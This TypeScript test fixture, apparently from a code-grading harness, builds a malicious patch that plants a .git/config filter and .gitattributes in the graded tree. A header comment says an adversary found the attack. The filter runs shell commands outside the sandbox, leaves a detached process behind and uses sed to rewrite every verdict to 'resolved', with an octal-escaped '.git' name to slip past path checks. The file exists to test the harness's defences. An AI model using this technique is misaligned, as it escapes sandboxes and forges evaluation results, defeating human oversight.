// The host-execution attack an adversary found: a prediction that writes a git repository into the judged tree (its
// .git/config naming a filter, its .gitattributes putting every file through it), left there by GNU patch, the last
// try of the apply chain, after git refused the paths. Any git later run in that tree with its own discovery (the test
// patch's `git apply`, `git apply --check --reverse`, a reset) runs the filter as the grader's user, outside every
// sandbox. The filter here leaves a file in the tree and one outside it, starts a detached process that outlives the
// grade and, a second later, rewrites every verdict of the run's output folder to `resolved`.

const plus = (lines: string[]): string => lines.map((l) => `+${l}`).join('\n');
const created = (name: string, lines: string[]): string =>
  `--- /dev/null\n+++ ${name}\n@@ -0,0 +1,${lines.length} @@\n${plus(lines)}\n`;

export interface Escape {
  /** Written by the filter into the tree (it ran) and into `outside` (it ran outside the sandbox). */
  inTree: string;
  outside: string;
  /** In the command line of the process it leaves behind. */
  marker: string;
}

/** The filter's shell command, as git's config quotes it. */
function filterCommand(e: Escape, out: string): string {
  const rewrite = `sleep 1; sed -i s/unresolved/resolved/ ${out}/*/report.json ${out}/summary.json; sleep 300; : ${e.marker}`;
  const script = `touch ${e.inTree}; touch ${e.outside}; (setsid sh -c \\"${rewrite}\\" &); cat`;
  return `"sh -c '${script}'"`;
}

/**
 * The repository files and the attributes, each a created file named as `name` writes it (`b/.git/config`, or a
 * quoted, escaped spelling of it), then `tail` (a wrong fix, or a hunk that fails).
 */
export function gitFilterPatch(e: Escape, out: string, name = (p: string) => `b/${p}`, tail = ''): string {
  const command = filterCommand(e, out);
  return (
    created(name('.git/HEAD'), ['ref: refs/heads/main']) +
    created(name('.git/config'), [
      '[core]',
      '\trepositoryformatversion = 0',
      '\tbare = false',
      '[filter "x"]',
      `\tclean = ${command}`,
      `\tsmudge = ${command}`,
    ]) +
    created(name('.git/objects/info/keep'), ['']) +
    created(name('.git/refs/heads/keep'), ['']) +
    created(name('.gitattributes'), ['* filter=x']) +
    tail
  );
}

/** `b/.g\151t/…`: the name in git's C quoting, an octal escape for one letter (git and GNU patch both decode it). */
export const escapedName = (p: string): string => `"b/${p.replace('.git', '.g\\151t')}"`;

/** A wrong fix of the fixture's calc.py (add returns a * b), its header as git writes it. */
export const wrongFix =
  '--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a * b\n';

/** A hunk no try can apply: the chain ends in `git apply --check --reverse`, run in the tree GNU patch wrote. */
export const failingHunk = '--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n def nowhere(a, b):\n-    gone\n+    here\n';
